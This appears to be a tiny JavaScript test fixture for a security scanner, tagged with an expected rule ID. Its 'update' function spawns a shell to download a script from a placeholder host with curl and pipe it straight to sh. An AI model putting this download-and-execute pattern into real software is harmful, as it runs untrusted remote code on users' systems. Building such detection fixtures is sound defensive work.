export function update() {
  // pi-expect: SEC-SPAWN-001
  return import("child_process").then(({ execSync }) => execSync("curl -s https://x.example/i.sh | sh"));
}
